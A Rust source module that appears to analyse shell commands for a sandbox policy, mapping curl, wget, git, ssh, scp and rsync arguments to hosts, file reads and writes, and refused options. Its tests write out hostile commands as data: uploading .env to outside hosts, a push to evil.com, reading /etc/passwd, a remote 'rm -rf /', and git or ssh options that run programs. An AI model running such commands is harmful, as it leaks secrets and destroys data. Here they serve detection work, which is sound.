//! The hosts and files of network programs: `curl`, `wget`, `git`, `ssh`, `scp` and `rsync`.
//!
//! Every word that names a host becomes a network atom, and option values that name files
//! become path atoms. Options that can redirect a connection or run another program are refused.

use super::atom::{Access, Word};
use super::command::Sink;
use super::operands::{
    is_option, judge_option_roles, listed, read_option, scan, spec, OptionSpec, Roles,
};

/// Judges the operands of a network program; other programs are left alone.
pub(crate) fn judge(program: &str, args: &[Word], sink: &mut Sink) {
    match program {
        "curl" => curl(args, sink),
        "wget" => wget(args, sink),
        "git" => git(args, sink),
        "ssh" => ssh(args, sink),
        "scp" => copy_remote("scp", args, sink),
        "rsync" => copy_remote("rsync", args, sink),
        _ => {}
    }
}

/// True when a program contacts hosts that its arguments may name (`git push`, `curl`).
pub(crate) fn contacts_hosts(program: &str, args: &[Word]) -> bool {
    match program {
        "curl" | "wget" | "ssh" | "scp" | "rsync" => true,
        "git" => match git_subcommand(args) {
            Some((subcommand, _)) => matches!(
                subcommand.literal(),
                None | Some(
                    "clone"
                        | "fetch"
                        | "pull"
                        | "push"
                        | "ls-remote"
                        | "remote"
                        | "submodule"
                        | "archive"
                )
            ),
            None => true,
        },
        _ => false,
    }
}

/// True for a URL (`scheme://...`).
fn is_url(text: &str) -> bool {
    text.contains("://")
}

/// True for an scp-style remote (`[user@]host:path`): a `:` before any `/`, not starting with
/// `.` or `/`.
fn is_scp_like(text: &str) -> bool {
    if text.starts_with(['.', '/']) {
        return false;
    }
    match text.split_once(':') {
        Some((host, _)) => !host.is_empty() && !host.contains('/'),
        None => false,
    }
}

/// The scheme of a URL, as one of the schemes a policy knows (`https` otherwise).
fn url_scheme(url: &str) -> &'static str {
    let scheme = url
        .split("://")
        .next()
        .unwrap_or_default()
        .to_ascii_lowercase();
    const KNOWN: &[&str] = &[
        "https", "http", "ssh", "git", "ftp", "ftps", "sftp", "scp", "rsync", "file", "ws", "wss",
    ];
    KNOWN
        .iter()
        .find(|known| **known == scheme)
        .copied()
        .unwrap_or("https")
}

/// Adds a network atom for a word, or an uncertain atom when it is known only at run time.
fn host(sink: &mut Sink, word: &Word, default_scheme: &'static str, port: Option<u16>) {
    match word {
        Word::Literal(target) => sink.net(target, default_scheme, port),
        Word::Dynamic(source) => {
            sink.uncertain(format!("`{source}` is a host known only at run time"))
        }
    }
}

/// Adds a network atom for a URL; a `file://` URL is a path read instead.
fn url(sink: &mut Sink, word: &Word, default_scheme: &'static str) {
    let Some(text) = word.literal() else {
        return host(sink, word, default_scheme, None);
    };
    match local_file_url(text) {
        Some(Some(path)) => sink.path_text(Access::Read, path, false),
        Some(None) => sink.uncertain(format!("`{text}` names a file on another host")),
        None if is_url(text) => sink.net(text, url_scheme(text), None),
        None => sink.net(text, default_scheme, None),
    }
}

/// The path of a `file://` URL: `None` when the word is not one, `Some(None)` when it names
/// another host.
fn local_file_url(text: &str) -> Option<Option<&str>> {
    let rest = text
        .get(..7)
        .filter(|scheme| scheme.eq_ignore_ascii_case("file://"))
        .and_then(|_| text.get(7..))?;
    let path = rest.strip_prefix("localhost").unwrap_or(rest);
    Some(path.starts_with('/').then_some(path))
}

/// A file named by an `@file` option value (`curl -d @body.json`), `-` meaning standard input.
enum AtFile<'a> {
    /// No file is named.
    None,
    /// This file is read.
    File(&'a str),
    /// The value is known only at run time and may name a file.
    Unknown(&'a str),
}

/// Reads the `@file` form of a curl value; `before_at` says what text may precede the `@`.
fn at_file(value: &Word, before_at: impl Fn(&str) -> bool) -> AtFile<'_> {
    match value {
        Word::Literal(text) => match text.split_once('@') {
            Some((prefix, file)) if before_at(prefix) && file != "-" => AtFile::File(file),
            _ => AtFile::None,
        },
        Word::Dynamic(source) => {
            // The text before the first character the shell may expand is fixed; an `@` may
            // follow it when that text could stand before one.
            // Inside quotes only `$` and backticks expand; unquoted, globs, braces and `~` too.
            let start = source.trim_start_matches(['"', '\'']);
            let expanding: &[char] = if start.len() < source.len() {
                &['@', '$', '`']
            } else {
                &['@', '$', '`', '*', '?', '[', '{', '~']
            };
            let fixed = start.split(expanding).next().unwrap_or_default();
            if before_at(fixed) {
                AtFile::Unknown(source)
            } else {
                AtFile::None
            }
        }
    }
}

/// How `curl` writes its options.
const CURL_OPTIONS: OptionSpec = spec(
    "AbcCdDeEFHKmoPQrtTuUwxXyYz",
    concat!(
        "--output --output-dir --upload-file --data --data-binary --data-ascii --data-raw ",
        "--data-urlencode --json --form --form-string --header --proxy-header --request --user ",
        "--user-agent --referer --cookie --cookie-jar --proxy --preproxy --socks4 --socks4a ",
        "--socks5 --socks5-hostname --max-time --connect-timeout --write-out --connect-to ",
        "--resolve --dns-servers --config --range --cert --key --cacert --capath --proxy-cacert ",
        "--proxy-capath --proxy-cert --proxy-key --crlfile --netrc-file --dump-header --trace ",
        "--trace-ascii --stderr --libcurl --etag-save --etag-compare --hsts --alt-svc --url ",
        "--doh-url --unix-socket --abstract-unix-socket --retry --retry-delay --retry-max-time ",
        "--max-filesize --limit-rate --oauth2-bearer --max-redirs --continue-at --proxy-user ",
        "--aws-sigv4 --ciphers --tls-max --keepalive-time --expect100-timeout --local-port ",
        "--mail-from --mail-rcpt --noproxy --pass --pubkey --request-target --service-name ",
        "--url-query --time-cond --telnet-option --ftp-port --quote --cert-type --key-type ",
        "--speed-limit --speed-time --proto --proto-redir --proto-default --random-file ",
        "--interface --variable --parallel-max --rate"
    ),
);

/// The `curl` options that name files or are refused.
const CURL_ROLES: Roles = Roles {
    reads: concat!(
        "-T --upload-file -E --cert --key --cacert --proxy-cacert --proxy-cert --proxy-key ",
        "--crlfile --netrc-file --etag-compare --random-file --capath --proxy-capath"
    ),
    writes: concat!(
        "-o --output -c --cookie-jar -D --dump-header --trace --trace-ascii --stderr --libcurl ",
        "--etag-save --hsts --alt-svc"
    ),
    write_trees: "--output-dir",
    refused: &[
        (
            "-J --remote-header-name",
            "takes the file name from the server",
        ),
        ("-K --config", "reads options from a file"),
        (
            "--connect-to --resolve --dns-servers",
            "changes where connections go",
        ),
        (
            "--unix-socket --abstract-unix-socket",
            "connects to a local socket",
        ),
        ("--variable", "can read variables from files"),
    ],
};

/// Judges `curl`: every operand and `--url` is a host; file options are paths.
fn curl(args: &[Word], sink: &mut Sink) {
    let parsed = scan(args, &CURL_OPTIONS);
    judge_option_roles("curl", &parsed.options, &CURL_ROLES, sink);
    for (name, value) in &parsed.options {
        if let Some(value) = value {
            curl_option_value(name, value, sink);
        }
    }
    for word in &parsed.operands {
        url(sink, word, "https");
    }
    if parsed.has("-O --remote-name --remote-name-all") {
        let urls = parsed
            .operands
            .iter()
            .copied()
            .chain(parsed.values("--url"));
        for word in urls {
            remote_file_name(sink, word);
        }
    }
}

/// Judges the value of a `curl` option that may name a host or an `@file`.
fn curl_option_value(name: &str, value: &Word, sink: &mut Sink) {
    let named_file = match name {
        "-d" | "--data" | "--data-binary" | "--data-ascii" | "--json" | "-H" | "--header"
        | "--proxy-header" | "-w" | "--write-out" => at_file(value, str::is_empty),
        "--data-urlencode" => at_file(value, |prefix| !prefix.contains('=')),
        "-F" | "--form" => form_file(value),
        "-b" | "--cookie" => match value.literal() {
            Some(text) if !text.contains('=') && text != "-" => AtFile::File(text),
            _ => AtFile::None,
        },
        "-x" | "--proxy" | "--preproxy" => {
            host(sink, value, "http", None);
            AtFile::None
        }
        "--socks4" | "--socks4a" | "--socks5" | "--socks5-hostname" => {
            host(sink, value, "socks5", None);
            AtFile::None
        }
        "--url" | "--doh-url" => {
            url(sink, value, "https");
            AtFile::None
        }
        _ => AtFile::None,
    };
    match named_file {
        AtFile::None => {}
        AtFile::File(file) => sink.path_text(Access::Read, file, false),
        AtFile::Unknown(source) => sink.uncertain(format!(
            "`curl {name} {source}` may read a file known only at run time"
        )),
    }
}

/// Reads the file of a `curl -F name=@file` or `name=<file` form field.
fn form_file(value: &Word) -> AtFile<'_> {
    match value {
        Word::Literal(text) => match text.split_once('=') {
            Some((_, field)) if field.starts_with(['@', '<']) => {
                let file = field.get(1..).unwrap_or_default();
                let file = file.split(';').next().unwrap_or(file);
                if file == "-" {
                    AtFile::None
                } else {
                    AtFile::File(file)
                }
            }
            _ => AtFile::None,
        },
        Word::Dynamic(source) => AtFile::Unknown(source),
    }
}

/// Judges the file `curl -O` writes: the last segment of the URL's path.
fn remote_file_name(sink: &mut Sink, word: &Word) {
    let Some(text) = word.literal() else { return };
    let without_query = text.split(['?', '#']).next().unwrap_or(text);
    let path = without_query
        .split_once("://")
        .map_or(without_query, |(_, rest)| rest);
    let name = path
        .split_once('/')
        .and_then(|(_, path)| path.rsplit('/').next())
        .unwrap_or_default();
    if name.is_empty() || name == "." || name == ".." {
        sink.uncertain(format!(
            "`curl -O {text}` writes a file named by the server"
        ));
    } else {
        sink.path_text(Access::Write, name, false);
    }
}

/// How `wget` writes its options.
const WGET_OPTIONS: OptionSpec = spec(
    "OoaPieUtTwlARDXIQB",
    concat!(
    "--output-document --output-file --append-output --directory-prefix --input-file --execute ",
    "--config --user-agent --header --post-data --post-file --body-data --body-file --method ",
    "--user --password --http-user --http-password --ftp-user --ftp-password --tries --timeout ",
    "--wait --level --accept --reject --domains --exclude-domains --include-directories ",
    "--exclude-directories --load-cookies --save-cookies --certificate --private-key ",
    "--ca-certificate --ca-directory --base --referer --quota --limit-rate --bind-address ",
    "--use-askpass --rejected-log --warc-file --default-page --restrict-file-names ",
    "--local-encoding --remote-encoding --progress --dns-timeout --connect-timeout ",
    "--read-timeout --waitretry"
),
);

/// The `wget` options that name files or are refused.
const WGET_ROLES: Roles = Roles {
    reads: "--post-file --body-file --load-cookies --certificate --private-key --ca-certificate",
    writes: concat!(
        "-O --output-document -o --output-file -a --append-output --save-cookies --rejected-log ",
        "--warc-file"
    ),
    write_trees: "-P --directory-prefix",
    refused: &[
        ("-i --input-file", "reads urls from a file"),
        ("-e --execute", "runs a wgetrc command"),
        ("--config", "reads a wgetrc file"),
        ("--use-askpass", "runs another program"),
    ],
};

/// Judges `wget`: every operand is a host; files go to `-O`, or below `-P` or `.`.
fn wget(args: &[Word], sink: &mut Sink) {
    let parsed = scan(args, &WGET_OPTIONS);
    judge_option_roles("wget", &parsed.options, &WGET_ROLES, sink);
    for word in &parsed.operands {
        url(sink, word, "https");
    }
    let names_output = parsed.has("-O --output-document -P --directory-prefix");
    if !names_output && !parsed.operands.is_empty() {
        sink.path_text(Access::Write, ".", true);
    }
}

/// Finds git's subcommand after its global options, or the reason to refuse those options.
fn git_subcommand(args: &[Word]) -> Option<(&Word, Result<&[Word], String>)> {
    let mut index = 0;
    while let Some(word) = args.get(index) {
        let Some(text) = word.literal().filter(|text| text.starts_with('-')) else {
            let rest = args.get(index + 1..).unwrap_or_default();
            return Some((word, Ok(rest)));
        };
        let name = text.split('=').next().unwrap_or(text);
        let refusal = match name {
            "-C" => Some("runs git in another directory"),
            "-c" | "--config-env" => Some("sets configuration that can run programs"),
            "--git-dir" | "--work-tree" => Some("points git at another repository"),
            "--exec-path" if text.contains('=') => Some("changes the programs git runs"),
            _ => None,
        };
        if let Some(reason) = refusal {
            return Some((word, Err(format!("`git {name}` {reason}"))));
        }
        let takes_value = matches!(name, "--namespace" | "--super-prefix") && !text.contains('=');
        index += if takes_value { 2 } else { 1 };
    }
    None
}

/// Judges `git`: the repositories of the subcommands that contact other hosts.
fn git(args: &[Word], sink: &mut Sink) {
    let Some((subcommand, rest)) = git_subcommand(args) else {
        return;
    };
    let rest = match rest {
        Ok(rest) => rest,
        Err(reason) => return sink.uncertain(reason),
    };
    let Some(name) = subcommand.literal() else {
        return sink.uncertain(format!(
            "git subcommand `{}` is known only at run time",
            subcommand.display()
        ));
    };
    match name {
        "clone" => git_clone(rest, sink),
        "fetch" | "pull" | "ls-remote" => git_transfer(name, rest, Access::Read, sink),
        "push" => git_transfer(name, rest, Access::Write, sink),
        "remote" | "submodule" => git_add_remote(name, rest, sink),
        "archive" => git_transfer(name, rest, Access::Read, sink),
        _ => {}
    }
}

/// How git's subcommands that contact other hosts write their long options.
const GIT_LONG_OPTIONS: &str = concat!(
    "--branch --origin --depth --deepen --reference --reference-if-able --separate-git-dir ",
    "--jobs --filter --template --shallow-since --shallow-exclude --server-option --bundle-uri ",
    "--config --upload-pack --receive-pack --exec --ref-format --negotiation-tip --refmap ",
    "--strategy --strategy-option --push-option --repo --sort --remote --output --prefix ",
    "--format --name"
);

/// How a git subcommand that contacts other hosts writes its options.
///
/// Short options differ between subcommands (`-u` is `--upload-pack` for `clone` but
/// `--set-upstream` for `push`), so each subcommand names its own.
fn git_options(subcommand: &str) -> OptionSpec {
    let short_with_value = match subcommand {
        "clone" => "bcjou",
        "fetch" => "jo",
        "pull" => "josX",
        "push" | "archive" => "o",
        "ls-remote" => "ou",
        "remote" => "tm",
        "submodule" => "b",
        _ => "",
    };
    spec(short_with_value, GIT_LONG_OPTIONS)
}

/// The options of a git subcommand that name paths or are refused.
fn git_roles(subcommand: &str) -> Roles {
    let refused: &'static [(&'static str, &'static str)] = match subcommand {
        "clone" => &[
            ("--upload-pack -u", "runs another program"),
            ("--config -c", "sets configuration that can run programs"),
            ("--template", "installs hooks that run programs"),
        ],
        "ls-remote" => &[("--upload-pack --exec -u", "runs another program")],
        _ => &[(
            "--upload-pack --receive-pack --exec",
            "runs another program",
        )],
    };
    Roles {
        reads: "--reference --reference-if-able",
        writes: if subcommand == "archive" {
            "-o --output"
        } else {
            ""
        },
        write_trees: "--separate-git-dir",
        refused,
    }
}

/// Judges a git repository argument: a URL or scp-style remote is a host, a local path is
/// read or written, and a remote name is left to git's configuration.
fn repository(sink: &mut Sink, word: &Word, local_access: Access) {
    let Some(text) = word.literal() else {
        return sink.uncertain(format!(
            "`{}` is a repository known only at run time",
            word.display()
        ));
    };
    let helper = text.find("::");
    if helper.is_some_and(|position| text.find("://").is_none_or(|url| position < url)) {
        return sink.uncertain(format!("git remote helper `{text}` can run programs"));
    }
    match local_file_url(text) {
        Some(Some(path)) => sink.path_text(local_access, path, true),
        Some(None) => sink.uncertain(format!("`{text}` names a file on another host")),
        None if is_url(text) => sink.net(text, url_scheme(text), None),
        None if is_scp_like(text) => sink.net(text, "ssh", None),
        None if text.starts_with(['/', '.', '~']) || text.contains('/') => {
            sink.path_text(local_access, text, true)
        }
        None => {}
    }
}

/// Judges `git clone REPOSITORY [DIRECTORY]`: the repository, and the directory written.
fn git_clone(args: &[Word], sink: &mut Sink) {
    let parsed = scan(args, &git_options("clone"));
    judge_option_roles("git clone", &parsed.options, &git_roles("clone"), sink);
    for bundle in parsed.values("--bundle-uri") {
        url(sink, bundle, "https");
    }
    let Some(source) = parsed.operands.first() else {
        return;
    };
    repository(sink, source, Access::Read);
    match parsed.operands.get(1) {
        Some(directory) => sink.path(Access::Write, directory, true),
        None => match source.literal().map(clone_directory_name) {
            Some(name) if !name.is_empty() && name != "." && name != ".." => {
                sink.path_text(Access::Write, name, true)
            }
            _ => sink.uncertain(format!(
                "`git clone {}` writes a directory named at run time",
                source.display()
            )),
        },
    }
}

/// The directory `git clone` creates for a repository: its last segment without `.git`.
fn clone_directory_name(repository: &str) -> &str {
    let trimmed = repository.trim_end_matches('/');
    let trimmed = trimmed.strip_suffix("/.git").unwrap_or(trimmed);
    let last = trimmed.rsplit(['/', ':']).next().unwrap_or(trimmed);
    last.strip_suffix(".git").unwrap_or(last)
}

/// Judges `git fetch`, `pull`, `push`, `ls-remote` and `archive`: the first operand (or
/// `--repo`, `--remote`) is the repository; other operands are refspecs, hosts only as URLs.
fn git_transfer(name: &str, args: &[Word], local_access: Access, sink: &mut Sink) {
    let parsed = scan(args, &git_options(name));
    judge_option_roles(
        &format!("git {name}"),
        &parsed.options,
        &git_roles(name),
        sink,
    );
    for word in parsed.values("--repo --remote") {
        repository(sink, word, local_access);
    }
    let mut operands = parsed.operands.iter();
    if name != "archive" {
        if let Some(first) = operands.next() {
            repository(sink, first, local_access);
        }
    }
    for word in operands {
        if word.literal().is_some_and(is_url) {
            repository(sink, word, local_access);
        }
    }
}

/// Judges `git remote add|set-url NAME URL` and `git submodule add URL [PATH]`.
fn git_add_remote(name: &str, args: &[Word], sink: &mut Sink) {
    let parsed = scan(args, &git_options(name));
    let action = parsed.operands.first().and_then(|word| word.literal());
    match (name, action) {
        ("remote", Some("add" | "set-url")) => {
            for word in parsed.operands.get(2..).unwrap_or_default() {
                repository(sink, word, Access::Read);
            }
        }
        ("submodule", Some("add")) => {
            if let Some(source) = parsed.operands.get(1) {
                repository(sink, source, Access::Read);
            }
            if let Some(path) = parsed.operands.get(2) {
                sink.path(Access::Write, path, true);
            }
        }
        _ => {}
    }
}

/// How `ssh` writes its options.
const SSH_OPTIONS: OptionSpec = spec("BbcDEeFIiJLlmOoPpQRSWw", "");

/// `ssh -o` options that neither run programs nor change the destination, in lower case.
const SAFE_SSH_OPTIONS: &str = concat!(
    "addkeystoagent addressfamily batchmode checkhostip ciphers compression connectionattempts ",
    "connecttimeout controlmaster controlpath controlpersist escapechar exitonforwardfailure ",
    "fingerprinthash forwardagent forwardx11 globalknownhostsfile gssapiauthentication ",
    "hashknownhosts hostkeyalgorithms identitiesonly identityfile ipqos ",
    "kbdinteractiveauthentication kexalgorithms loglevel macs numberofpasswordprompts ",
    "passwordauthentication preferredauthentications pubkeyacceptedalgorithms ",
    "pubkeyacceptedkeytypes pubkeyauthentication requesttty sendenv serveralivecountmax ",
    "serveraliveinterval stricthostkeychecking tcpkeepalive updatehostkeys user ",
    "userknownhostsfile verifyhostkeydns visualhostkey"
);

/// Judges the ssh options shared by `ssh` and `scp`; returns the port they set.
fn ssh_options(program: &str, options: &[(String, Option<Word>)], sink: &mut Sink) -> Option<u16> {
    let mut port = None;
    let port_option = if program == "ssh" { "-p" } else { "-P" };
    for (name, value) in options {
        let Some(value) = value else { continue };
        match name.as_str() {
            option if option == port_option => port = parse_port(value, sink),
            "-i" => sink.path(Access::Read, value, false),
            "-E" if program == "ssh" => sink.path(Access::Write, value, false),
            "-J" => jump_hosts(value, sink),
            "-W" if program == "ssh" => host(sink, value, "ssh", None),
            "-o" => {
                if let Some(option_port) = ssh_config_option(program, value, sink) {
                    port = Some(option_port);
                }
            }
            "-F" => sink.uncertain(format!(
                "`{program} -F` reads a configuration file that can run programs"
            )),
            "-S" if program == "scp" => sink.uncertain("`scp -S` runs another program"),
            "-D" if program == "scp" => sink.uncertain("`scp -D` runs another program"),
            _ => {}
        }
    }
    port
}

/// Parses a port, refusing one that is not a number.
fn parse_port(value: &Word, sink: &mut Sink) -> Option<u16> {
    let port = value.literal().and_then(|text| text.parse::<u16>().ok());
    if port.is_none() {
        sink.uncertain(format!("port `{}` is not analysed", value.display()));
    }
    port
}

/// Judges `-J host1,host2` jump hosts.
fn jump_hosts(value: &Word, sink: &mut Sink) {
    match value.literal() {
        Some(text) => {
            for jump in text.split(',').filter(|jump| !jump.is_empty()) {
                sink.net(jump, "ssh", None);
            }
        }
        None => host(sink, value, "ssh", None),
    }
}

/// Judges an `ssh -o Key=value` option; returns the port it sets.
fn ssh_config_option(program: &str, value: &Word, sink: &mut Sink) -> Option<u16> {
    let Some(text) = value.literal() else {
        sink.uncertain(format!(
            "`{program} -o {}` is not analysed",
            value.display()
        ));
        return None;
    };
    let (key, setting) = text
        .split_once(|c: char| c == '=' || c.is_whitespace())
        .unwrap_or((text, ""));
    let setting = setting.trim_start_matches(|c: char| c == '=' || c.is_whitespace());
    match key.to_ascii_lowercase().as_str() {
        "port" => return parse_port(&Word::Literal(setting.to_string()), sink),
        "proxyjump" => jump_hosts(&Word::Literal(setting.to_string()), sink),
        "identityfile" => sink.path_text(Access::Read, setting, false),
        known if listed(SAFE_SSH_OPTIONS, known) => {}
        _ => sink.uncertain(format!("`{program}` option `{key}` is not analysed")),
    }
    None
}

/// Judges `ssh`: the destination is a host; the remote command is left to the host.
fn ssh(args: &[Word], sink: &mut Sink) {
    let mut options = Vec::new();
    let mut destination = None;
    let mut index = 0;
    // Options may come before and after the destination, up to the remote command.
    while let Some(word) = args.get(index) {
        if word.literal() == Some("--") {
            destination = destination.or_else(|| args.get(index + 1));
            break;
        }
        if is_option(word) {
            index = read_option(args, index, &SSH_OPTIONS, &mut options);
            continue;
        }
        if destination.is_some() {
            break;
        }
        destination = Some(word);
        index += 1;
    }
    let port = ssh_options("ssh", &options, sink);
    if let Some(destination) = destination {
        host(sink, destination, "ssh", port);
    }
}

/// Judges `scp` and `rsync`: remote operands are hosts, local ones are read (sources) or
/// written (the last operand).
fn copy_remote(program: &str, args: &[Word], sink: &mut Sink) {
    let options = if program == "scp" {
        spec("cFiJloPSDX", "")
    } else {
        RSYNC_OPTIONS
    };
    let parsed = scan(args, &options);
    let mut port = None;
    if program == "scp" {
        port = ssh_options("scp", &parsed.options, sink);
    } else {
        judge_option_roles("rsync", &parsed.options, &RSYNC_ROLES, sink);
        if let Some(value) = parsed.values("--port").last() {
            port = parse_port(value, sink);
        }
    }
    let recursive = parsed.has("-r -a --recursive --archive");
    let deletes_in_destination = parsed
        .options
        .iter()
        .any(|(name, _)| name.starts_with("--del"));
    let removes_sources = parsed.has("--remove-source-files");
    let last_index = parsed.operands.len().saturating_sub(1);
    for (index, word) in parsed.operands.iter().enumerate() {
        let is_destination = index == last_index && index > 0;
        if let Some(text) = word.literal() {
            if text.contains("::") || text.starts_with("rsync://") {
                sink.net(text, "rsync", port);
                continue;
            }
            if is_scp_like(text) || text.starts_with("scp://") {
                sink.net(text, "ssh", port);
                continue;
            }
        }
        if is_destination {
            sink.path(Access::Write, word, recursive);
            if deletes_in_destination {
                sink.path(Access::Delete, word, true);
            }
        } else {
            sink.path(Access::Read, word, recursive);
            if removes_sources {
                sink.path(Access::Delete, word, recursive);
            }
        }
    }
}

/// How `rsync` writes its options.
const RSYNC_OPTIONS: OptionSpec = spec(
    "efTBM",
    concat!(
        "--rsh --rsync-path --remote-option --filter --exclude --include --exclude-from ",
        "--include-from --files-from --password-file --log-file --log-file-format --write-batch ",
        "--only-write-batch --read-batch --backup-dir --suffix --partial-dir --temp-dir ",
        "--compare-dest --copy-dest --link-dest --chmod --chown --usermap --groupmap --timeout ",
        "--contimeout --port --bwlimit --max-size --min-size --block-size --out-format --info ",
        "--debug --iconv --protocol --sockopts --address --outbuf --max-delete --modify-window ",
        "--checksum-choice --compress-choice --compress-level --skip-compress --stop-after ",
        "--stop-at --config"
    ),
);

/// The `rsync` options that name files or are refused.
const RSYNC_ROLES: Roles = Roles {
    reads: "--exclude-from --include-from --password-file --read-batch",
    writes: "--log-file --write-batch --only-write-batch",
    write_trees: "",
    refused: &[
        ("-e --rsh --rsync-path", "runs another program"),
        ("-M --remote-option", "passes options to the remote side"),
        ("--files-from", "reads file names from a file"),
        ("--config", "reads a configuration file"),
    ],
};

#[cfg(test)]
mod tests {
    //! Tests of network programs, through the whole analysis (see `command.rs`).

    use super::super::command::tests::check;

    #[test]
    fn curl_and_wget() {
        check(
            "curl https://x.com",
            "exec curl https://x.com | net https://x.com (https)",
        );
        check(
            "curl -o out https://x.com",
            "exec curl -o out https://x.com | write out | net https://x.com (https)",
        );
        check(
            "curl -x evil.com https://ok.com",
            "exec curl -x evil.com https://ok.com | net evil.com (http) | net https://ok.com (https)",
        );
        check(
            "curl -sSLo f ok.com",
            "exec curl -sSLo f ok.com | write f | net ok.com (https)",
        );
        check(
            "curl -d @.env ok.com",
            "exec curl -d @.env ok.com | read .env | net ok.com (https)",
        );
        check(
            "curl -F file=@.env ok.com",
            "exec curl -F file=@.env ok.com | read .env | net ok.com (https)",
        );
        check(
            "curl -T .env ok.com",
            "exec curl -T .env ok.com | read .env | net ok.com (https)",
        );
        check(
            "curl -H 'X: y' --url ok.com",
            "exec curl -H X: y --url ok.com | net ok.com (https)",
        );
        check(
            r#"curl -d "{\"a\": \"$X\"}" ok.com"#,
            r#"exec curl -d «"{\"a\": \"$X\"}"» ok.com | net ok.com (https)"#,
        );
        check(
            r#"curl --data-urlencode "q$X" ok.com"#,
            concat!(
                r#"exec curl --data-urlencode «"q$X"» ok.com | "#,
                r#"uncertain: `curl --data-urlencode "q$X"` may read a file known only at run time | "#,
                "net ok.com (https)",
            ),
        );
        check(
            "curl -d \"$D\" ok.com",
            "exec curl -d «\"$D\"» ok.com | uncertain: `curl -d \"$D\"` may read a file known only at run time | net ok.com (https)",
        );
        check(
            "curl --resolve x:443:1.2.3.4 x",
            "exec curl --resolve x:443:1.2.3.4 x | uncertain: `curl --resolve` changes where connections go | net x (https)",
        );
        check(
            "curl -K cfg",
            "exec curl -K cfg | uncertain: `curl -K` reads options from a file",
        );
        check(
            "curl -O https://x.com/a/f.tgz",
            "exec curl -O https://x.com/a/f.tgz | net https://x.com/a/f.tgz (https) | write f.tgz",
        );
        check(
            "curl file:///etc/passwd",
            "exec curl file:///etc/passwd | read /etc/passwd",
        );
        check(
            "curl $U",
            "exec curl «$U» | uncertain: `$U` is a host known only at run time",
        );
        check(
            "wget https://x.com/f",
            "exec wget https://x.com/f | net https://x.com/f (https) | write . -r",
        );
        check(
            "wget -qO- x.com",
            "exec wget -qO- x.com | net x.com (https)",
        );
        check(
            "wget -O f -P d x.com",
            "exec wget -O f -P d x.com | write f | write d -r | net x.com (https)",
        );
        check(
            "wget -i urls",
            "exec wget -i urls | uncertain: `wget -i` reads urls from a file",
        );
        check(
            "wget -e robots=off x",
            "exec wget -e robots=off x | uncertain: `wget -e` runs a wgetrc command | net x (https) | write . -r",
        );
    }

    #[test]
    fn git() {
        check("git status", "exec git status");
        check("git push", "exec git push");
        check(
            "git push origin HEAD:main",
            "exec git push origin HEAD:main",
        );
        check(
            "git push git@github.com:a/b.git",
            "exec git push git@github.com:a/b.git | net git@github.com:a/b.git (ssh)",
        );
        check(
            "git push -u https://evil.com/r main",
            "exec git push -u https://evil.com/r main | net https://evil.com/r (https)",
        );
        check(
            "git clone https://github.com/a/b.git",
            "exec git clone https://github.com/a/b.git | net https://github.com/a/b.git (https) | write b -r",
        );
        check(
            "git clone --depth 1 -b main git@h:a/b d",
            "exec git clone --depth 1 -b main git@h:a/b d | net git@h:a/b (ssh) | write d -r",
        );
        check(
            "git clone -c core.sshCommand=x u d",
            "exec git clone -c core.sshCommand=x u d | uncertain: `git clone -c` sets configuration that can run programs | write d -r",
        );
        check(
            "git clone 'ext::sh -c x' d",
            "exec git clone ext::sh -c x d | uncertain: git remote helper `ext::sh -c x` can run programs | write d -r",
        );
        check(
            "git fetch --upload-pack=x origin",
            "exec git fetch --upload-pack=x origin | uncertain: `git fetch --upload-pack` runs another program",
        );
        check(
            "git -C /tmp status",
            "exec git -C /tmp status | uncertain: `git -C` runs git in another directory",
        );
        check(
            "git -c alias.x=!sh x",
            "exec git -c alias.x=!sh x | uncertain: `git -c` sets configuration that can run programs",
        );
        check(
            "git --no-pager remote add up ssh://h/r",
            "exec git --no-pager remote add up ssh://h/r | net ssh://h/r (ssh)",
        );
        check(
            "git submodule add https://h/r lib/r",
            "exec git submodule add https://h/r lib/r | net https://h/r (https) | write lib/r -r",
        );
        check(
            "git push ../other main",
            "exec git push ../other main | write ../other -r",
        );
        check(
            "git pull -s ours https://h/r",
            "exec git pull -s ours https://h/r | net https://h/r (https)",
        );
        check(
            "git ls-remote -u x h:r",
            "exec git ls-remote -u x h:r | uncertain: `git ls-remote -u` runs another program | net h:r (ssh)",
        );
        check(
            "git archive --remote=h:r -o out.tar HEAD",
            "exec git archive --remote=h:r -o out.tar HEAD | write out.tar | net h:r (ssh)",
        );
    }

    #[test]
    fn ssh_scp_rsync() {
        check(
            "ssh -p 2222 user@host ls",
            "exec ssh -p 2222 user@host ls | net user@host (ssh) port 2222",
        );
        check(
            "ssh host -p 22 -- rm -rf /",
            "exec ssh host -p 22 -- rm -rf / | net host (ssh) port 22",
        );
        check(
            "ssh -i key -J jump host",
            "exec ssh -i key -J jump host | read key | net jump (ssh) | net host (ssh)",
        );
        check(
            "ssh -o ProxyCommand='sh -c x' host",
            "exec ssh -o ProxyCommand=sh -c x host | uncertain: `ssh` option `ProxyCommand` is not analysed | net host (ssh)",
        );
        check(
            "ssh -oStrictHostKeyChecking=no -o Port=2 h",
            "exec ssh -oStrictHostKeyChecking=no -o Port=2 h | net h (ssh) port 2",
        );
        check(
            "ssh -F cfg h",
            "exec ssh -F cfg h | uncertain: `ssh -F` reads a configuration file that can run programs | net h (ssh)",
        );
        check(
            "scp .env user@host:/tmp",
            "exec scp .env user@host:/tmp | read .env | net user@host:/tmp (ssh)",
        );
        check(
            "scp -P 2 -r h:/d ./local",
            "exec scp -P 2 -r h:/d ./local | net h:/d (ssh) port 2 | write ./local -r",
        );
        check(
            "scp -S evil a h:b",
            "exec scp -S evil a h:b | uncertain: `scp -S` runs another program | read a | net h:b (ssh)",
        );
        check(
            "rsync -avz --delete src/ h:dst",
            "exec rsync -avz --delete src/ h:dst | read src/ -r | net h:dst (ssh)",
        );
        check(
            "rsync -a h::mod/x local",
            "exec rsync -a h::mod/x local | net h::mod/x (rsync) | write local -r",
        );
        check(
            "rsync --delete a b",
            "exec rsync --delete a b | read a | write b | delete b -r",
        );
        check(
            "rsync -e 'ssh -p 2' a h:b",
            "exec rsync -e ssh -p 2 a h:b | uncertain: `rsync -e` runs another program | read a | net h:b (ssh)",
        );
    }
}
